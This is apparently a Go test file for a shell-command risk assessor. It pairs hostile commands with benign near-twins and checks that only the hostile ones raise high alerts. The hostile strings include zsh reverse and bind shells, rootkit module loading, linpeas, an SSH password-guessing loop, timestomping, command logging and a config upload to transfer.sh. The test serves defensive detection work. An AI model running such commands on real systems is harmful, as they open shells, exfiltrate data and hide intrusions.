package assess

import (
	"context"
	"testing"

	"sallyport"
)

// TestWaysInAndOut holds one text for every mechanism of judgement that needs more than one effect, and beside each an honest
// text that differs in what matters.
func TestWaysInAndOut(t *testing.T) {
	for _, c := range []struct{ rule, grave, honest string }{
		{"remote-shell", "zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.9 8443 && zsh >&$REPLY 0>&$REPLY'", "zsh -c 'zmodload zsh/net/tcp && ztcp 198.51.100.9 8443 && echo PING >&$REPLY'"},
		{"remote-shell", "zsh -c 'ztcp -l 8443; ztcp -a $REPLY; sh <&$REPLY >&$REPLY'", "zsh -c 'ztcp -l 8443'"},
		{"persist-module", "modprobe reptile", "modprobe nf_conntrack"},
		{"persist-module", "modprobe qzkern7", "modprobe br_netfilter"},
		{"attack-tool", "bash ./tools/linpeas.sh", "bash ./tools/list.sh"},
		{"raw-protocol", "whois -h 198.51.100.9 -p 4040 abcdef", "whois -h whois.example.net example.org"},
		{"raw-protocol", "curl gopher://198.51.100.9:4040/_abc", "curl https://198.51.100.9:4040/abc"},
		{"time-tamper", "touch -t 201501010000 /usr/bin/sshd", "touch -t 201501010000 \"$1\""},
		{"weak-spot-search", "find / -perm -4000 -type f", "find . -perm -4000 -type f"},
		{"unknown-code", "printf 'socket(\"198.51.100.9\", 8443); run(\"/bin/sh\")' > /tmp/a.zz; zzlang /tmp/a.zz", "printf 'print(1)' > /tmp/a.zz; zzlang /tmp/a.zz"},
		{"password-guessing", "for p in $(cat /tmp/l.txt); do sshpass -p \"$p\" ssh root@198.51.100.9 id; done", "sshpass -p \"$(cat /tmp/l.txt)\" ssh root@198.51.100.9 id"},
		{"command-spy", "PROMPT_COMMAND='history 1 | logger -t x'", "PROMPT_COMMAND='history -a'"},
		{"data-leaves", "tar czf /tmp/x.tgz ./conf; curl -F file=@/tmp/x.tgz https://transfer.sh/", "tar czf /tmp/x.tgz ./conf; curl -F file=@/tmp/x.tgz https://backup.example.net/"},
		{"not-parsed", "bash -c 'if ; then ('", "bash -c 'if true; then :; fi'"},
	} {
		if rules := alerts(c.grave); !rules[c.rule] {
			t.Errorf("%q: no alert of rule %q: %v", c.grave, c.rule, rules)
		}
		if rules := alerts(c.honest); len(rules) > 0 {
			t.Errorf("%q: alerts %v, want none", c.honest, rules)
		}
	}
}

// alerts is the rules of a text's high and critical findings.
func alerts(text string) map[string]bool {
	a := Assess(context.Background(), Request{Text: []byte(text + "\n"), Lang: "bash"})
	out := map[string]bool{}
	for _, f := range a.Findings {
		if f.Level.Rank() >= sallyport.High.Rank() {
			out[f.Rule] = true
		}
	}
	return out
}

// TestBlanksLeftOpenAreNotLow: <name> is two redirections to a shell.
func TestBlanksLeftOpenAreNotLow(t *testing.T) {
	a := Assess(context.Background(), Request{Text: []byte("telnet <host> 8080\n"), Lang: "bash"})
	if a.Verdict == sallyport.Low {
		t.Errorf("verdict %q, want more", a.Verdict)
	}
	b := Assess(context.Background(), Request{Text: []byte("sort <a >b\n"), Lang: "bash"})
	if b.Verdict != sallyport.Low {
		t.Errorf("verdict %q of plain redirections, want low", b.Verdict)
	}
}
